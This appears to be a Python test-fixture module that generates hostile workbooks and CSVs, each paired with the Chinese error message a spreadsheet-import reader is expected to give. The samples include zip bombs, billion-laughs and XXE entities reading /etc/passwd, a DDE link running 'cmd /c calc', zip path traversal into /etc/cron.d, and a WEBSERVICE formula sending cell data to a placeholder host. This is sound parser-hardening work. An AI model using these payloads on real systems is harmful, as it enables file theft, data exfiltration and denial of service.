"""Hostile workbooks, made when a test needs them: each with what a reader is to say of it."""

from __future__ import annotations

import codecs
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from zipfile import ZIP_LZMA, ZipFile

from tests.households.ledger.packages import (
    HEAD,
    MAIN,
    OFFICE,
    SHEET_BEGIN,
    SHEET_END,
    XML,
    Entry,
    Part,
    bomb,
    good_sheet,
    parts,
    row,
    sheet,
    with_bomb,
    write,
    write_raw,
)

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
READ = ""
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MEGABYTE = 1 << 20
EXTERNAL = f'{XML}<externalLink xmlns="{MAIN}"><externalBook/></externalLink>'
DDE = EXTERNAL.replace("externalBook", 'ddeLink ddeService="cmd" ddeTopic="/c calc"')
LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@dataclass(frozen=True)
class Hostile:
    """A file and what is said of it: a piece of the refusal, or READ and how many rows it has.

    `is_slow`: the reader gives up only when its time is over.
    """

    name: str
    filename: str
    make: Callable[[Path], None]
    said: str = READ
    rows: int = 0
    is_slow: bool = False

    def __str__(self) -> str:
        return self.name


HOSTILE: list[Hostile] = []


def hostile(
    said: str, filename: str = "台账.xlsx", rows: int = 0, is_slow: bool = False
) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    """Enter what a function writes into the corpus, under the function's name."""

    def enter(make: Callable[[Path], None]) -> Callable[[Path], None]:
        name = make.__name__.replace("_", " ")
        HOSTILE.append(Hostile(name, filename, make, said, rows, is_slow))
        return make

    return enter


def workbook(path: Path, content: Part = "", **options: object) -> None:
    write(path, parts({"台账": content or good_sheet()}, **options))  # type: ignore[arg-type]


def beginning(data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(data)

    return make


# Files that are something else, whatever they are called.

OTHERS = (
    ("nothing at all", "台账.xlsx", b"", "文件是空的"),
    ("blanks only", "台账.csv", b"\xef\xbb\xbf \r\n\r\n", "文件是空的"),
    ("noughts only", "台账.csv", bytes(10_000), "文件是空的"),
    ("a pdf", "台账.xlsx", b"%PDF-1.7\n%\xe2\xe3", "PDF"),
    ("a picture", "台账.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(100), "图片"),
    ("a photo called csv", "台账.csv", b"\xff\xd8\xff\xe0" + bytes(100), "图片"),
    ("a program", "台账.xlsx", b"MZ\x90\x00" + bytes(100), "程序"),
    ("a rar", "台账.xlsx", b"Rar!\x1a\x07\x01\x00" + bytes(100), "压缩包"),
    ("a gzip", "台账.xlsx", b"\x1f\x8b\x08\x00" + bytes(100), "压缩包"),
    ("an empty archive", "台账.xlsx", b"PK\x05\x06" + bytes(18), "压缩包"),
    ("a page called xls", "台账.xls", "<html><table><tr><td>姓名".encode("gb18030"), "网页"),
    ("a bare table called xls", "台账.xls", b"<table border=1><tr><td>1", "网页"),
    ("a saved page", "台账.xls", b"MIME-Version: 1.0\r\nX-Document-Type: Workbook", "网页"),
    (
        "xml of 2003",
        "台账.xls",
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook '
        b'xmlns="urn:schemas-microsoft-com:office:spreadsheet">',
        "XML 格式的旧表格",
    ),
    ("some other xml", "台账.xlsx", b'<?xml version="1.0"?><a><b/></a>', "不是工作簿"),
    ("rich text", "台账.xlsx", b"{\\rtf1\\ansi", "文字文档"),
    ("an encrypted workbook", "台账.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
    ("an old workbook", "台账.xls", OLE + "Workbook".encode("utf-16-le"), "（.xls）"),
    ("an older workbook", "台账.xls", OLE + "Book".encode("utf-16-le"), "另存为"),
    ("an old workbook called xlsx", "台账.xlsx", OLE + "Workbook".encode("utf-16-le"), "（.xls）"),
    ("an old workbook of WPS", "台账.et", OLE + "Workbook".encode("utf-16-le"), "（.et）"),
    ("an old document", "台账.xls", OLE + "WordDocument".encode("utf-16-le"), "Word"),
    ("a workbook of Excel 3", "台账.xls", b"\x09\x02\x06\0" + bytes(50), "（.xls）"),
    ("an archive cut off at once", "台账.xlsx", b"PK\x03\x04\x14\x00\x06", "不完整或已损坏"),
    ("bytes by chance", "台账.csv", random.Random(7).randbytes(5000), "不是工作簿"),
    ("text with noughts", "台账.csv", "姓名,电话\n张\0三,1\n".encode(), "CSV"),
    ("a quote never closed", "台账.csv", '姓名,电话\n"张三,1\n李四,2\n'.encode(), "第 2 行"),
    ("a quote open for 10,000 lines", "台账.csv", b'a,b\n"' + b"1,2\n" * 10_000, "第 2 行"),
    ("a line of two megabytes", "台账.csv", b"a,b\n" + b"1," * MEGABYTE, "第 2 行太长"),
    ("UTF-8 cut off", "台账.csv", ("姓名,电话\n" * 600 + "张").encode()[:-1], "编码"),
    ("UTF-8 broken within", "台账.csv", codecs.BOM_UTF8 + b"a,b\n\xff", "编码"),
)  # fmt: skip
HOSTILE += [Hostile(name, file, beginning(data), said) for name, file, data, said in OTHERS]


@hostile("最大只能 100 MB", "台账.csv")
def a_line_of_300_megabytes(path: Path) -> None:
    with path.open("wb") as file:
        file.write(b"a,b\n")
        file.truncate(300 * MEGABYTE)


@hostile("压缩包")
def workbooks_in_an_archive(path: Path) -> None:
    inner = path.with_suffix(".inner")
    workbook(inner)
    write(path, {"一.xlsx": inner.read_bytes(), "二.xlsx": inner.read_bytes()})


@hostile("（.ods）", "台账.ods")
def an_opendocument_sheet(path: Path) -> None:
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    write(path, {"mimetype": kind, "content.xml": XML})


@hostile("文字文档")
def a_docx_called_xlsx(path: Path) -> None:
    write(path, {"[Content_Types].xml": XML, "word/document.xml": XML})


@hostile("（.xlsb）", "台账.xlsb")
def a_binary_workbook(path: Path) -> None:
    write(path, {"[Content_Types].xml": XML, "xl/workbook.bin": b"\x83\x01\x00"})


# Macros, links, formulas.


@hostile("宏", "台账.xlsm")
def macros(path: Path) -> None:
    workbook(path, extra={"xl/vbaProject.bin": OLE})


@hostile("宏")
def macros_called_xlsx(path: Path) -> None:
    workbook(path, extra={"xl/VBAProject.bin": OLE})


@hostile("宏")
def macros_of_excel_4(path: Path) -> None:
    workbook(path, extra={"xl/macrosheets/sheet1.xml": sheet("")})


@hostile(READ, rows=4)
def links_to_other_workbooks(path: Path) -> None:
    workbook(path, extra={"xl/externalLinks/externalLink1.xml": EXTERNAL})


@hostile(READ, rows=4)
def a_link_that_would_run_a_program(path: Path) -> None:
    workbook(path, extra={"xl/externalLinks/externalLink1.xml": DDE})


@hostile(READ, rows=2)
def a_formula_that_would_fetch_a_page(path: Path) -> None:
    fetch = '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x/?"&amp;B2)</f><v>甲</v></c></row>'
    workbook(path, sheet(row(1, *HEAD) + fetch))


# Archives that lie or burst.


@hostile("不完整或已损坏")
def a_workbook_cut_in_half(path: Path) -> None:
    workbook(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@hostile("展开后有")
def a_sheet_of_three_gigabytes(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b" " * MEGABYTE, 1, SHEET_END, size=3 << 30)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("不完整或已损坏")
def a_sheet_larger_than_it_says(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b"<row/>" * 10_000, 200, SHEET_END, size=50_000)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("大得不像表格")
def a_hundred_megabytes_of_blanks(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b" " * MEGABYTE, 100, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("大得不像表格")
def one_row_of_100_megabytes(path: Path) -> None:
    entry = bomb(
        SHEET, f"{SHEET_BEGIN}<row>", b"<c><v>1</v></c>" * 70_000, 100, f"</row>{SHEET_END}"
    )
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("内存超出限度")
def elements_nested_five_million_deep(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b"<deep>" * 100_000, 50, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("文字太多")
def one_text_of_200_megabytes(path: Path) -> None:
    entry = bomb(STRINGS, f'<sst xmlns="{MAIN}"><si><t>', b"x" * MEGABYTE, 200, "</t></si></sst>")
    with_bomb(path, STRINGS, entry, parts({"台账": good_sheet()}, strings=""))


@hostile("文字太多", is_slow=True)
def fifty_million_texts(path: Path) -> None:
    entry = bomb(STRINGS, f'<sst xmlns="{MAIN}">', b"<si/>" * 100_000, 500, "</sst>")
    with_bomb(path, STRINGS, entry, parts({"台账": good_sheet()}, strings=""))


@hostile(READ, is_slow=False)
def a_million_empty_rows_with_formats(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b'<row s="3" customFormat="1"/>' * 10_000, 100, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("超出限度", is_slow=True)
def a_million_empty_rows_of_thirty_formatted_cells(path: Path) -> None:
    cells = b"<row>" + b'<c s="1"/>' * 30 + b"</row>"
    entry = bomb(SHEET, SHEET_BEGIN, cells * 1000, 1000, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("超出了 Excel 的范围")
def more_rows_than_excel_has(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b"<row/>" * 10_000, 110, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("超出了 Excel 的范围")
def row_sixteen_million(path: Path) -> None:
    workbook(path, sheet(row(1, *HEAD) + row(16_777_216, "甲")))


@hostile(READ, rows=4)
def a_size_that_is_a_lie(path: Path) -> None:
    lie = '<dimension ref="A1:XFD1048576"/>'
    workbook(path, good_sheet().replace("<sheetData>", f"{lie}<sheetData>"))


@hostile("100,000 行")
def too_many_rows(path: Path) -> None:
    entry = bomb(SHEET, SHEET_BEGIN, b"<row><c><v>1</v></c></row>" * 10_000, 12, SHEET_END)
    with_bomb(path, SHEET, entry, parts({"台账": ""}))


@hostile("100,000 行", "台账.csv")
def too_many_lines(path: Path) -> None:
    path.write_bytes(b"1,2,3\n" * 1_000_000)


@hostile("部件太多")
def twenty_thousand_parts(path: Path) -> None:
    with ZipFile(path, "w") as archive:
        for n in range(20_000):
            archive.writestr(f"xl/media/{n}.png", b"")


@hostile("不完整或已损坏")
def two_parts_of_one_name(path: Path) -> None:
    made = parts({"台账": good_sheet()})
    honest = [Entry.honest(name, part) for name, part in made.items()]
    write_raw(path, [*honest, Entry.honest(SHEET, good_sheet(9))])


@hostile("密码")
def a_part_with_a_password(path: Path) -> None:
    made = parts({"台账": good_sheet()})
    honest = [Entry.honest(name, part) for name, part in made.items() if name != SHEET]
    write_raw(path, [*honest, Entry(SHEET, b"x" * 50, 60, flags=1)])


@hostile("不完整或已损坏")
def a_part_packed_by_lzma(path: Path) -> None:
    with ZipFile(path, "w", ZIP_LZMA) as archive:
        for name, part in parts({"台账": good_sheet()}).items():
            archive.writestr(name, part)


@hostile("不完整或已损坏")
def a_sheet_outside_of_the_archive(path: Path) -> None:
    relations = "xl/_rels/workbook.xml.rels"
    made = parts({"台账": good_sheet()})
    made[relations] = str(made[relations]).replace(
        "worksheets/sheet1.xml", "../../../../../../etc/passwd"
    )
    write(path, made | {"../../etc/cron.d/x": "x"})


@hostile("没有工作表")
def a_sheet_on_another_machine(path: Path) -> None:
    relations = "xl/_rels/workbook.xml.rels"
    made = parts({"台账": good_sheet()})
    made[relations] = str(made[relations]).replace(
        'Target="worksheets/sheet1.xml"', 'TargetMode="External" Target="file://host/x.xml"'
    )
    write(path, made)


# XML that is no table.


@hostile("文档类型声明")
def a_billion_laughs(path: Path) -> None:
    workbook(path, good_sheet().replace("<worksheet", f"{LAUGHS}<worksheet"))


@hostile("文档类型声明")
def a_billion_laughs_in_the_texts(path: Path) -> None:
    workbook(path, strings=f"{LAUGHS}<sst><si><t>&b;</t></si></sst>")


@hostile("文档类型声明")
def an_entity_that_is_a_file(path: Path) -> None:
    secret = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    content = parts({"台账": good_sheet()})["xl/workbook.xml"]
    listed = str(content).replace("<workbook", f"{secret}<workbook").replace("台账", "&x;")
    workbook(path, workbook=listed)


@hostile("文档类型声明")
def a_document_type_in_the_styles(path: Path) -> None:
    workbook(path, styles='<!DOCTYPE s SYSTEM "http://x/"><styleSheet/>')


@hostile("不完整或已损坏")
def xml_that_breaks_off(path: Path) -> None:
    workbook(path, good_sheet()[:-40])


@hostile("不完整或已损坏")
def xml_that_is_not_utf_8(path: Path) -> None:
    workbook(path, good_sheet().encode("gb18030"))


@hostile("不完整或已损坏")
def texts_that_there_are_not(path: Path) -> None:
    cell = '<row r="1"><c r="A1" t="s"><v>7</v></c></row>'
    workbook(path, sheet(cell), strings=f'<sst xmlns="{MAIN}"><si><t>甲</t></si></sst>')


@hostile("不完整或已损坏")
def a_text_of_number_minus_one(path: Path) -> None:
    cell = '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'
    workbook(path, sheet(cell), strings=f'<sst xmlns="{MAIN}"><si><t>甲</t></si></sst>')


@hostile("不完整或已损坏")
def a_sheet_that_is_missing(path: Path) -> None:
    made = parts({"台账": good_sheet()})
    del made[SHEET]
    write(path, made)


@hostile("不完整或已损坏")
def a_place_that_is_none(path: Path) -> None:
    workbook(path, sheet('<row r="1"><c r="1A"><v>1</v></c></row>'))


@hostile("合并的单元格太多")
def ten_thousand_merges_over_each_other(path: Path) -> None:
    merges = "".join(f'<mergeCell ref="A1:C{n}"/>' for n in range(2, 10_002))
    workbook(path, sheet(row(1, *HEAD), f"<mergeCells>{merges}</mergeCells>"))


@hostile(READ, rows=4)
def the_whole_sheet_merged(path: Path) -> None:
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    workbook(path, good_sheet().replace("</sheetData>", f"</sheetData>{merged}"))


@hostile(READ, rows=1)
def sixteen_thousand_columns(path: Path) -> None:
    workbook(path, sheet(row(1, *HEAD, *range(16_378))))


@hostile("不完整或已损坏")
def a_column_beyond_the_last(path: Path) -> None:
    workbook(path, sheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'))


@hostile(READ, rows=1)
def numbers_that_are_none(path: Path) -> None:
    cells = "".join(
        f'<c r="{place}"><v>{text}</v></c>'
        for place, text in (("A1", "1e999"), ("B1", "NaN"), ("C1", "-inf"), ("D1", "9" * 400))
    )
    workbook(path, sheet(f'<row r="1">{cells}</row>'))


@hostile("没有工作表")
def no_sheets(path: Path) -> None:
    write(path, parts({}))


@hostile("没有工作表")
def a_chart_for_a_sheet(path: Path) -> None:
    relations = "xl/_rels/workbook.xml.rels"
    made = parts({"图": good_sheet()})
    made[relations] = str(made[relations]).replace(f"{OFFICE}/worksheet", f"{OFFICE}/chartsheet")
    write(path, made)


@hostile("不完整或已损坏")
def one_sheet_a_thousand_times(path: Path) -> None:
    sheets = "".join(f'<sheet name="{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 1_001))
    made = parts({"台账": good_sheet()})
    book = str(made["xl/workbook.xml"])
    begin, end = book.index("<sheets>") + len("<sheets>"), book.index("</sheets>")
    write(path, {**made, "xl/workbook.xml": book[:begin] + sheets + book[end:]})
